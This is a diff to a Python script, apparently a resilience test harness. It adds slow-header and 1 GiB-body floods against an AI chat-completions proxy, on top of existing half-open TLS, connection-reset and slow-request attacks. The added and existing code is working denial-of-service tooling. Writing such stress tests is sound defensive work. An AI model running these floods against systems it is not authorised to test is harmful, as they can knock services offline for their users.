@@ -1,7 +1,8 @@
 """A neighbour's attacks on a host, all at once. Standard library only, run there by `python3`.
 
 Arguments: addresses with ports of a proxy, a peer server and the proxy of a service that sleeps,
-seconds, and a key. Prints counters at the end, as JSON: an attack that reached nothing shows.
+seconds, and a key; or of the address for all models alone, and seconds. Prints counters at the end,
+as JSON: an attack that reached nothing shows.
 """
 
 import contextlib
@@ -18,7 +19,7 @@ import time
 HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
 HALF = 10_000
 RESET = struct.pack("ii", 1, 0)
-COUNTS = {"half": 0, "ended": 0, "resets": 0, "slow": 0}
+COUNTS = {"half": 0, "ended": 0, "resets": 0, "slow": 0, "heads": 0, "huge": 0}
 
 
 def half(at: tuple[str, int], until: float) -> None:
@@ -75,16 +76,46 @@ def slow(at: tuple[str, int], until: float, key: str) -> None:
             item.recv(100)
 
 
+def without_key(at: tuple[str, int], until: float, counter: str) -> None:
+    """A head that comes byte by byte, or a body of 1 GiB that follows a wrong key."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-none\r\n"
+    length = b"Content-Length: %d\r\n\r\n" % (1 << 30)
+    piece, pause = (b"x", 0.5) if counter == "heads" else (b" " * (1 << 20), 0)
+    while time.monotonic() < until:
+        with (
+            contextlib.suppress(OSError),
+            socket.create_connection(at, 10) as plain,
+            context.wrap_socket(plain) as item,
+        ):
+            item.settimeout(10)
+            item.sendall(head + (b"X-Slow: " if counter == "heads" else length))
+            COUNTS[counter] += 1
+            while time.monotonic() < until:
+                item.sendall(piece)
+                time.sleep(pause)
+
+
 def main() -> None:
     """All of them."""
     resource.setrlimit(resource.RLIMIT_NOFILE, (16_000, 16_000))
-    proxy, peers, asleep = [
-        (address, int(port)) for address, _, port in (each.partition(":") for each in sys.argv[1:4])
+    count = 1 if len(sys.argv) == 3 else 3
+    places = [
+        (address, int(port))
+        for address, _, port in (each.partition(":") for each in sys.argv[1 : 1 + count])
     ]
-    until, key = time.monotonic() + float(sys.argv[4]), sys.argv[5]
-    work = [threading.Thread(target=half, args=(proxy, until))]
-    work += [threading.Thread(target=reset, args=(peers, until)) for _ in range(4)]
-    work += [threading.Thread(target=slow, args=(asleep, until, key)) for _ in range(64)]
+    until = time.monotonic() + float(sys.argv[1 + count])
+    work = [threading.Thread(target=half, args=(places[0], until))]
+    if count == 1:
+        kinds = ["heads"] * 64 + ["huge"] * 16
+        work += [threading.Thread(target=without_key, args=(places[0], until, k)) for k in kinds]
+    else:
+        _, peers, asleep = places
+        work += [threading.Thread(target=reset, args=(peers, until)) for _ in range(4)]
+        work += [
+            threading.Thread(target=slow, args=(asleep, until, sys.argv[5])) for _ in range(64)
+        ]
     for thread in work:
         thread.start()
     for thread in work:
